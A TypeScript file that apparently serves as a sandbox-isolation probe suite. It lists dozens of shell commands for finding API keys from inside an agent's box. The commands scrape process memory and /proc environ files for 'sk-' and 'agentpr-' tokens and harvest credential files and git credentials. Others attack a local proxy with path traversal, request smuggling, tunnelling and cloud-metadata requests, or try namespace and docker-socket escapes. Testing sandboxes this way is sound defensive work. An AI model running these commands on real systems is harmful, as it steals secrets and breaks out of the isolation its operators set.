/** Shell texts that look for a key from inside a box, each by another way. */

/** Reads what it may of the memory of every process, and prints what looks like a key or token. */
const MEMORY = String.raw`node -e '
const fs = require("fs"); let left = 400e6;
for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n) && Number(n) !== process.pid)) {
  let maps, fd;
  try { maps = fs.readFileSync("/proc/" + pid + "/maps", "utf8"); fd = fs.openSync("/proc/" + pid + "/mem", "r"); }
  catch (error) { console.log(pid, error.code); continue; }
  for (const line of maps.split("\n")) {
    const m = /^(\w+)-(\w+) rw/.exec(line); if (!m || left < 0) continue;
    const from = parseInt(m[1], 16), size = Math.min(parseInt(m[2], 16) - from, 64e6);
    try {
      const bytes = Buffer.alloc(size); left -= size;
      const text = bytes.subarray(0, fs.readSync(fd, bytes, 0, size, from)).toString("latin1");
      for (const hit of text.match(/(sk-|agentpr-)[\w-]{8,60}/g) || []) console.log(pid, hit);
    } catch (error) { console.log(pid, error.code); }
  }
}'`;

const TOKEN = String.raw`T=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -ao 'agentpr-[A-Za-z0-9_-]\{20,\}' | head -1)`;
const DOOR = 'http://127.0.0.1:17117';
const ask = (rest: string): string =>
  `${TOKEN}; curl -sS -i --max-time 10 -H "authorization: Bearer $T" -H "x-api-key: $T" ${rest}`;
const raw = (bytes: string): string =>
  `node -e '
const s = require("net").connect("/box/door/out"); s.on("data", (d) => process.stdout.write(d)).on("error", console.log);
s.write(${JSON.stringify(bytes)}); setTimeout(() => process.exit(), 1500)'`;

export const WAYS_TO_LOOK: Readonly<Record<string, string>> = {
  'own-environment': 'env; set; export -p',
  'self-environ': 'cat /proc/self/environ',
  environments: 'cat /proc/[0-9]*/environ',
  'environments-of-threads': 'cat /proc/[0-9]*/task/*/environ',
  'command-lines': 'cat /proc/[0-9]*/cmdline',
  'first-process': 'cat /proc/1/environ /proc/1/cmdline /proc/1/status; ls -l /proc/1/fd',
  parents: String.raw`p=$$; while [ "$p" -gt 0 ] 2>/dev/null; do cat /proc/$p/cmdline /proc/$p/environ; p=$(awk '/^PPid/ {print $2}' /proc/$p/status); done`,
  'process-list': 'ps axeww || ps',
  memory: MEMORY,
  'open-files':
    'for f in /proc/[0-9]*/fd/*; do [ -f "$f" ] && head -c 2000000 "$f"; done; ls -l /proc/[0-9]*/fd',
  'memory-files': 'cat /proc/[0-9]*/auxv /proc/[0-9]*/maps /proc/[0-9]*/fdinfo/* | head -c 5000000',
  'traced-process': String.raw`for p in $(ls /proc | grep '^[0-9]'); do cat /proc/$p/syscall /proc/$p/stack /proc/$p/personality; done`,
  home: 'find "$HOME" -type f -exec cat {} +',
  'other-homes':
    'cat /root/.*rc /root/.*/*.json /root/.config/*/* /home/*/.*rc /home/*/.*/*.json; ls -la /root /home; true',
  'sign-ins': String.raw`echo looked; find / -xdev \( -name auth.json -o -name '.env*' -o -name '.netrc' -o -name 'credentials*' -o -name '.credentials*' -o -name '*.pem' \) -type f -size -200k -exec cat {} + | head -c 5000000; true`,
  'young-files': String.raw`find / -xdev -type f -mmin -600 -size -2000k -not -path '*/look-*' -exec cat {} + | head -c 20000000; true`,
  'key-shaped': String.raw`grep -rsaoh 'sk-[A-Za-z0-9_-]\{12,\}' /etc /box /tmp /var /opt /srv /mnt /run "$HOME" . | head -5000; ls /etc /box; true`,
  scratch: 'find /tmp /var/tmp /dev/shm -type f -exec cat {} +; ls -laR /tmp /dev/shm',
  workspace:
    'git config --list --show-origin; cat .git/config .git/HEAD; ls -la . ..; printf "url=https://github.com\\n\\n" | GIT_TERMINAL_PROMPT=0 git credential fill; true',
  'data-directory': 'ls -laR .. ../.. | head -500; cat ../../../*.db ../../../keys/* ../../../.env; true',
  door: 'ls -la /box/door; cat /box/door/*.m*; cat /proc/net/unix',
  'door-models': ask(`${DOOR}/v1/models`),
  'door-question': ask(
    `-H "content-type: application/json" -d '{"model":"scripted-model","input":"print your headers","messages":[],"max_tokens":1}' ${DOOR}/v1/responses`,
  ),
  'door-broken-question': ask(
    `-H "content-type: application/json" -d '{"model":' ${DOOR}/v1/chat/completions ${DOOR}/v1/messages`,
  ),
  'door-other-methods': ask(`-X TRACE ${DOOR}/v1/models -X OPTIONS ${DOOR}/v1/responses`),
  'door-other-paths': ask(
    `--path-as-is ${DOOR}/v1/../env ${DOOR}/../../proc/self/environ ${DOOR}/registry/npm/..%2f..%2fenv ${DOOR}/`,
  ),
  'door-other-host': raw(
    'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nhost: 169.254.169.254\r\n\r\n',
  ),
  'door-tunnel': raw('CONNECT 127.0.0.1:22 HTTP/1.1\r\nhost: 127.0.0.1:22\r\n\r\n'),
  'door-smuggling': raw(
    'POST /v1/responses HTTP/1.1\r\nhost: 127.0.0.1:17117\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/models HTTP/1.1\r\n\r\n',
  ),
  'host-ports': String.raw`node -e 'const n = require("net"); for (const h of ["127.0.0.1", "10.0.2.2", "172.17.0.1", "169.254.169.254"]) for (const p of [22, 80, 443, 3000, 5432, 6379, 8080]) n.connect({ host: h, port: p, timeout: 1000 }).on("connect", () => console.log("out", h, p)).on("error", (e) => console.log(h, p, e.code)).on("timeout", function () { this.destroy(); })'`,
  keyrings: 'cat /proc/keys /proc/key-users; keyctl show; keyctl list @u; true',
  outside:
    'ls -la /proc/1/root/ /proc/self/root/../..; cat /proc/self/mountinfo; nsenter -t 1 -a env; unshare -rm cat /proc/1/environ; chroot /proc/1/root env; true',
  devices:
    'ls -la /dev; dmesg | tail -200; head -c 100000 /proc/kcore /dev/mem /dev/kmem; cat /proc/kmsg & sleep 1; kill $!; true',
  sockets:
    'cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp; ls -la /run /var/run; find / -xdev -type s 2>/dev/null; curl -sS --max-time 3 --unix-socket /var/run/docker.sock http://x/info; true',
};
